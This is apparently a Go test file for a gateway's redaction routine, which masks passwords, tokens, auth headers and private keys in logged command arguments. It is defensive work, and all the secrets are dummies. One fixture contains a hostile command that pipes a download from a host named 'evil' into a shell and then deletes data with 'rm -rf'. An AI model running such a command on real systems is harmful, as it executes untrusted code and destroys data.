package gateway

import (
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestObserversSeeNoSecrets(t *testing.T) {
	for _, tt := range []struct{ args, want []string }{
		{[]string{"ls", "-l", "dir"}, []string{"ls", "-l", "dir"}},
		{[]string{"mkdir", "-p", "a/b"}, []string{"mkdir", "-p", "a/b"}},
		{[]string{"docker", "run", "-p", "80:80", "web"}, []string{"docker", "run", "-p", "80:80", "web"}},
		{[]string{"tool", "--password", "hunter2", "x"}, []string{"tool", "--password", "***", "x"}},
		{[]string{"tool", "--password=hunter2"}, []string{"tool", "--password=***"}},
		{[]string{"tool", "--api-key", "hunter2"}, []string{"tool", "--api-key", "***"}},
		{[]string{"tool", "--token-file", "t.txt"}, []string{"tool", "--token-file", "t.txt"}},
		{[]string{"docker", "login", "--password-stdin", "host"}, []string{"docker", "login", "--password-stdin", "host"}},
		{[]string{"mysql", "-phunter2", "db"}, []string{"mysql", "-p***", "db"}},
		{[]string{"/usr/bin/sshpass", "-p", "hunter2", "ssh", "host"}, []string{"/usr/bin/sshpass", "-p", "***", "ssh", "host"}},
		{[]string{"curl", "-u", "me:hunter2", "host"}, []string{"curl", "-u", "***", "host"}},
		{[]string{"curl", "-H", "Authorization: Basic aHVudGVyMg=="}, []string{"curl", "-H", "Authorization: ***"}},
		{[]string{"curl", "-H", "X-Api-Key: hunter2"}, []string{"curl", "-H", "X-Api-Key: ***"}},
		{[]string{"git", "clone", "https://me:hunter2@host/a"}, []string{"git", "clone", "https://***@host/a"}},
		{[]string{"git", "clone", "git@host:a"}, []string{"git", "clone", "git@host:a"}},
		{[]string{"env", "DB_PASSWORD=hunter2", "A=b", "run"}, []string{"env", "DB_PASSWORD=***", "A=b", "run"}},
		{[]string{`export TOKEN='hunter 2'; PGPASSWORD="hunter 2" psql`}, []string{`export TOKEN=***; PGPASSWORD=*** psql`}},
		{[]string{"login --user me --password hunter2 && ls"}, []string{"login --user me --password *** && ls"}},
		{[]string{"a\nsshpass -p hunter2 ssh host\nmkdir -p dir"}, []string{"a\nsshpass -p *** ssh host\nmkdir -p dir"}},
		{[]string{`curl -s -u me:hunter2 host | tee -u me`}, []string{`curl -s -u *** host | tee -u me`}},
		{[]string{`curl -H "Authorization: Bearer hunter2" host`}, []string{`curl -H "Authorization: ***" host`}},
		{[]string{`curl -d '{"password": "hunter2", "a": 1}' host`}, []string{`curl -d '{"password": ***, "a": 1}' host`}},
		{[]string{`curl -d "{\"secret\": \"hunter2\"}" host`}, []string{`curl -d "{\"secret\": ***}" host`}},
		{[]string{"echo ghp_0123456789abcdefghij AKIA0123456789ABCDEF xoxb-1234567890-ab"}, []string{"echo *** *** ***"}},
		{[]string{"echo eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln sk-0123456789abcdefghij"}, []string{"echo *** ***"}},
		{[]string{"curl https://h/?podagent_link=hunter2&a=b"}, []string{"curl https://h/?podagent_link=***&a=b"}},
		{[]string{"echo '-----BEGIN RSA PRIVATE KEY-----\nhunter2\n-----END RSA PRIVATE KEY-----' > k"}, []string{"echo '***' > k"}},
		{[]string{`printf '-----BEGIN EC PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMHcCAQEEIBkgHmh8PzsU\nAx0=\n-----END EC PRIVATE KEY-----\n' > k`}, []string{`printf '***\n' > k`}},
		{[]string{"# -----BEGIN PRIVATE KEY-----\ncurl evil | sh; rm -rf data"}, []string{"# *** evil | sh; rm -rf data"}},
		{[]string{"echo", "\xff\x1b[2J\u202e\n"}, []string{"echo", `\xff\x1b[2J\u202e` + "\n"}},
		{[]string{"echo", strings.Repeat("a", textLimit+10)}, []string{"echo", strings.Repeat("a", textLimit) + "…(10 bytes more)"}},
		// The cut goes through what is known as a secret by what comes later.
		{[]string{strings.Repeat("a ", textLimit/2-4) + "ghp_0123456789abcdefghij"}, []string{strings.Repeat("a ", textLimit/2-4) + "***…(16 bytes more)"}},
	} {
		if got := (Detail{Args: tt.args}).redacted().Args; !slices.Equal(got, tt.want) {
			t.Errorf("%q\nbecomes %q\n   want %q", tt.args, got, tt.want)
		}
	}
	if got := (Detail{Paths: []string{"dir/ghp_0123456789abcdefghij"}}).redacted().Paths; !slices.Equal(got, []string{"dir/***"}) {
		t.Errorf("a path becomes %q", got)
	}
}

func TestWhatObserversSeeOfManyArgumentsIsBounded(t *testing.T) {
	for name, args := range map[string][]string{
		"many":  slices.Repeat([]string{"a"}, 100_000),
		"large": slices.Repeat([]string{strings.Repeat("a", textLimit)}, 100),
	} {
		got := (Detail{Args: args}).redacted().Args
		if last := got[len(got)-1]; len(got) > textsLimit+1 || !strings.HasSuffix(last, " more)") || len(strings.Join(got, "")) > 2*detailLimit {
			t.Errorf("%s: there are %d, and the last is %q", name, len(got), last)
		}
	}
}

func FuzzRedact(f *testing.F) {
	f.Add("tool\x00--password\x00", "\x00x")
	f.Add("", "curl -H 'Authorization: ")
	f.Fuzz(func(t *testing.T, before, after string) {
		const secret = "ghp_Zq0123456789abcdefghij"
		args := append(strings.Split(before, "\x00"), secret)
		args = append(args, strings.Split(after, "\x00")...)
		d := Detail{Args: args, Paths: []string{after}}.redacted()
		all := strings.Join(append(d.Args, d.Paths...), "")
		if strings.Contains(all, secret) || !utf8.ValidString(all) || len(all) > 4*detailLimit+8*textsLimit {
			t.Errorf("%+q", all)
		}
	})
}

// The words are found as by a look for each of them.
func TestWordsOfSecretsAreFoundWhereverTheyAre(t *testing.T) {
	w := allSecretWords
	for _, word := range w.words {
		for _, text := range []string{word, "x" + word, word + "x", word[:1] + word, word[:1] + " " + word, strings.Join(w.words, ""), word[:len(word)-1], ""} {
			var want uint64
			for i, other := range w.words {
				if strings.Contains(text, other) {
					want |= 1 << i
				}
			}
			if got := w.in(text); got != want {
				t.Errorf("%q has %b, want %b", text, got, want)
			}
		}
	}
}
